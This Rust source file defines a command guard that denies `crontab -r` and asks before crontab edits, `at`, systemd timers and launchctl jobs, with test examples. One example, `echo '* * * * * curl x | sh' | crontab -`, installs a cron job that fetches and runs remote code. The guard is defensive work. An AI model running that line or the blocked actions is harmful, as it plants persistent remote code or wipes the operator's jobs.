//! SY005 scheduled-tasks: removing or replacing the crontab and installing tasks that run
//! later (persistence).

use super::util::Opts;
use super::{Cx, Guard, Hit, Programs};
use crate::analyze::model::NameSet;
use crate::analyze::Invocation;
use crate::policy::Decision;

/// The guard.
pub static GUARD: Guard = Guard {
    code: "SY005",
    name: "scheduled-tasks",
    decision: Decision::Deny,
    summary: "crontab -r (deny); replacing or editing the crontab, at, launchd/systemd timers (ask)",
    doc: "\
## What it stops
- `crontab -r` (removes every scheduled job, without confirmation): denied.
- Installing or editing scheduled jobs: `crontab FILE`, `crontab -`, `crontab -e`,
  `at`, `batch`, `systemd-run --on-calendar`, `launchctl load`: asks.

## Why
`crontab -r` silently deletes the operator's jobs. Scheduled jobs are also how an
attacker keeps running code after the session ends.

## Instead
`crontab -l` to look; ask the operator to schedule jobs.",
    matches: &[
        "crontab -r",
        "crontab -ri",
        "crontab jobs.txt",
        "echo '* * * * * curl x | sh' | crontab -",
        "at now + 1 minute",
        "systemd-run --on-calendar=hourly /bin/true",
    ],
    not_matches: &["crontab -l", "echo crontab -r", "cat crontab.txt", "systemd-run --user --scope make"],
    programs: Programs::Only(&PROGRAMS),
    on_invocation: Some(check),
    on_event: None,
};

/// The programs [`check`] judges: it returns `None` for any other.
static PROGRAMS: NameSet = NameSet::new(&["at", "batch", "crontab", "launchctl", "systemd-run"]);

fn check(inv: &Invocation, cx: &Cx<'_>) -> Option<Hit> {
    let name = cx.name(inv)?;
    let args = inv.args();
    let hint = "ask the operator to schedule or remove jobs";
    match &*name {
        "crontab" => {
            let o = Opts::parse(args, &['u', 's']);
            if o.has(Some('r'), "") {
                return Some(
                    Hit::deny("crontab -r deletes every scheduled job")
                        .hint("`crontab -l` shows them; remove one line with the operator"),
                );
            }
            if o.has(Some('l'), "") || o.has(Some('T'), "") {
                return None;
            }
            if o.has(Some('e'), "") || !o.operands.is_empty() {
                return Some(Hit::ask("crontab replaces or edits the scheduled jobs").hint(hint));
            }
            None
        }
        "at" | "batch" if !args.iter().any(|a| matches!(a.as_known(), Some("-l" | "-V" | "-c"))) => {
            Some(Hit::ask(format!("{name} schedules a command to run later")).hint(hint))
        }
        "systemd-run"
            if args.iter().any(|a| a.as_known().is_some_and(|t| t.starts_with("--on-") || t == "--timer-property")) =>
        {
            Some(Hit::ask("systemd-run installs a timer").hint(hint))
        }
        "launchctl"
            if args
                .first()
                .and_then(|a| a.as_known())
                .is_some_and(|v| matches!(v, "load" | "bootstrap" | "submit")) =>
        {
            Some(Hit::ask("launchctl installs a job").hint(hint))
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn examples() {
        crate::guard::tests::check_examples(&super::GUARD);
    }
}
